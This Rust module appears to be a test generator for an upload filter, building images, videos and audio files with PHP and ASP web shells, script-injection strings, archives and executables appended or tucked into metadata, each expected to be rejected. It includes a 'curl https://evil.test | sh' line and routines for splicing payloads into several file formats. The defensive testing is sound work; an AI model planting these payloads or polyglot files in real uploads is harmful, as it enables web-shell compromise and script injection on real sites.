//! Scripts, pages, archives and programs hidden behind or inside good pictures, films and sounds.

use harness::samples;

use super::case::{Case, Evil, Place};
use super::programs::{linux_program, windows_program};

const DENIED: &str = "upload.content_denied";
const TURNS: [Place; 5] = [Place::Only, Place::First, Place::Second, Place::Last, Place::Put];

/// Good files that something is put behind of.
const CARRIERS: &[&str] = &[
    "jpg-baseline",
    "jpg-camera",
    "png-rgb",
    "gif-still",
    "webp-lossy",
    "bmp",
    "avif",
    "heic",
    "mp4",
    "mov",
    "webm-vp9",
    "mp3-tagged",
    "wav",
];

/// More of them, of rarer kinds.
const MORE: &[&str] = &[
    "tiff-lzw", "ico", "psd", "jp2", "jxl", "mkv", "avi", "3gp", "mpg", "ts", "flv", "wmv", "ogg", "opus",
    "flac", "m4a", "aac", "aiff",
];

/// Those of a format whose end is known, and where nothing but the format's own may follow.
const ENDING: &[&str] = &["jpg-baseline", "png-rgb", "gif-still", "webp-lossy"];

/// Technique and what is hidden.
fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let text = |text: &str| text.as_bytes().to_vec();
    vec![
        ("php", text("<?php system($_GET['c']); ?>")),
        ("php-capitals", text("<?PHP\nsystem($_GET['c']);")),
        ("php-short-echo", text("<?=`$_GET[0]`?>")),
        ("php-short", text("<? system('id'); ?>")),
        ("jsp", text("<%@ page import=\"java.util.*\" %>")),
        ("jsp-xml", text("<jsp:scriptlet>Runtime.getRuntime();</jsp:scriptlet>")),
        ("asp", text("<%eval request(\"c\")%>")),
        ("script", text("<script>alert(document.domain)</script>")),
        ("script-source", text("<ScRiPt src=//evil.test></sCrIpT>")),
        ("html", text("<html><body onload=alert(1)>")),
        ("iframe", text("<iframe src=javascript:alert(1)>")),
        ("zip", samples::named("zip-info-zip").content.to_vec()),
        ("7z", samples::named("7z").content.to_vec()),
        ("rar-4", b"Rar!\x1a\x07\0\xcf\x90\x73\0\0\x0d\0\0\0\0\0\0\0".to_vec()),
        ("rar-5", b"Rar!\x1a\x07\x01\0\x33\x92\xb5\xe5\x0a\x01\x05\x06".to_vec()),
        ("elf", linux_program()),
        ("pe", windows_program()),
    ]
}

/// What acts without any marker: only that it stands behind the end gives it away.
fn quiet() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("shell-script", b"\n#!/bin/sh\ncurl https://evil.test | sh\n".to_vec()),
        ("javascript", b"/*x*/=1;alert(document.domain);/*".to_vec()),
        ("gzip", samples::named("gz").content.to_vec()),
        ("php-in-utf-16", wide("<?php system($_GET['c']); ?>")),
    ]
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

pub(super) fn cases() -> Vec<Case> {
    let mut evils = Vec::new();
    for carrier in CARRIERS.iter().chain(MORE) {
        for (technique, payload) in payloads() {
            evils.push(behind(carrier, technique, &payload));
        }
    }
    for carrier in ENDING {
        for (technique, payload) in quiet() {
            evils.push(behind(carrier, technique, &payload));
        }
    }
    for (technique, payload) in payloads().into_iter().take(11) {
        for (place, filename, content) in inside(&payload) {
            evils.push(Evil::new(format!("inside/{technique} in {place}"), filename, content, DENIED));
        }
    }
    for (place, filename, content) in inside(&wide("<script>alert(document.domain)</script>")) {
        evils.push(Evil::new(format!("inside/script-in-utf-16 in {place}"), filename, content, DENIED));
    }
    let turn = |(at, evil)| Case::places(evil, &[TURNS[at % TURNS.len()]]);
    evils.into_iter().enumerate().flat_map(turn).collect()
}

fn behind(carrier: &str, technique: &str, payload: &[u8]) -> Evil {
    let good = samples::named(carrier);
    let content = [&good.content[..], payload].concat();
    let filename = format!("holiday.{}", good.extension);
    Evil::new(format!("behind/{technique} behind {carrier}"), &filename, content, DENIED)
}

/// A payload in each place that a format has for words.
fn inside(payload: &[u8]) -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let jpg = &samples::named("jpg-baseline").content[..];
    let png = &samples::named("png-rgb").content[..];
    let gif = &samples::named("gif-still").content[..];
    let webp = &samples::named("webp-lossy").content[..];
    let mp4 = &samples::named("mp4").content[..];
    let mp3 = &samples::named("mp3-bare").content[..];
    let wav = &samples::named("wav").content[..];
    vec![
        ("jpg-comment", "a.jpg", segment(jpg, 0xfe, payload)),
        ("jpg-exif", "a.jpg", segment(jpg, 0xe1, &[b"Exif\0\0II*\0\x08\0\0\0\0\0", payload].concat())),
        ("jpg-xmp", "a.jpg", segment(jpg, 0xe1, &[b"http://ns.adobe.com/xap/1.0/\0", payload].concat())),
        ("jpg-profile", "a.jpg", segment(jpg, 0xe2, &[b"ICC_PROFILE\0\x01\x01", payload].concat())),
        ("png-text", "a.png", chunk(png, b"tEXt", &[b"Comment\0", payload].concat())),
        ("png-international-text", "a.png", chunk(png, b"iTXt", &[b"Comment\0\0\0\0\0", payload].concat())),
        ("png-private-chunk", "a.png", chunk(png, b"prVt", payload)),
        ("gif-comment", "a.gif", gif_comment(gif, payload)),
        ("webp-exif", "a.webp", riff(webp, b"EXIF", payload)),
        ("webp-xmp", "a.webp", riff(webp, b"XMP ", payload)),
        ("mp4-free-space", "a.mp4", boxed(mp4, b"free", payload)),
        ("mp4-user-data", "a.mp4", boxed(mp4, b"udta", payload)),
        ("mp3-tag", "a.mp3", [id3(payload), mp3.to_vec()].concat()),
        ("wav-list", "a.wav", riff(wav, b"LIST", payload)),
    ]
}

/// A marker segment behind a JPEG's start (ITU-T T.81 section B.1.1.4).
fn segment(jpg: &[u8], marker: u8, content: &[u8]) -> Vec<u8> {
    let length = u16::try_from(content.len() + 2).expect("a segment is short").to_be_bytes();
    [&jpg[..2], &[0xff, marker], &length, content, &jpg[2..]].concat()
}

/// A chunk behind a PNG's header.
pub(super) fn chunk(png: &[u8], kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).expect("a chunk is short").to_be_bytes();
    let summed = [kind, content].concat();
    [&png[..33], &length, &summed, &harness::sample::crc32(&summed).to_be_bytes(), &png[33..]].concat()
}

/// A comment extension behind a GIF's colour table.
fn gif_comment(gif: &[u8], content: &[u8]) -> Vec<u8> {
    let colours = if gif[10] & 0x80 == 0 { 0 } else { 3 << ((gif[10] & 7) + 1) };
    let (head, rest) = gif.split_at(13 + colours);
    let mut comment = b"\x21\xfe".to_vec();
    for block in content.chunks(255) {
        comment.push(u8::try_from(block.len()).expect("a block is short"));
        comment.extend_from_slice(block);
    }
    comment.push(0);
    [head, &comment, rest].concat()
}

/// A chunk at a RIFF file's end, which the file's size counts.
fn riff(file: &[u8], kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let mut padded = content.to_vec();
    padded.resize(content.len().next_multiple_of(2), 0);
    let length = u32::try_from(content.len()).expect("a chunk is short").to_le_bytes();
    let mut whole = [file, kind, &length, &padded].concat();
    let size = u32::try_from(whole.len() - 8).expect("the file is small").to_le_bytes();
    whole[4..8].copy_from_slice(&size);
    whole
}

/// A box at an MP4's end (ISO/IEC 14496-12 section 4.2).
fn boxed(file: &[u8], kind: &[u8; 4], content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len() + 8).expect("a box is short").to_be_bytes();
    [file, &length, kind, content].concat()
}

/// An ID3v2.3 tag with a comment.
fn id3(content: &[u8]) -> Vec<u8> {
    let text = [b"\0eng\0".as_slice(), content].concat();
    let frame = [
        b"COMM".as_slice(),
        &u32::try_from(text.len()).expect("a tag is short").to_be_bytes(),
        b"\0\0",
        &text,
    ]
    .concat();
    let size = frame.len();
    let syncsafe = [size >> 21 & 0x7f, size >> 14 & 0x7f, size >> 7 & 0x7f, size & 0x7f];
    let syncsafe = syncsafe.map(|seven| u8::try_from(seven).expect("seven bits fit"));
    [b"ID3\x03\0\0".as_slice(), &syncsafe, &frame].concat()
}
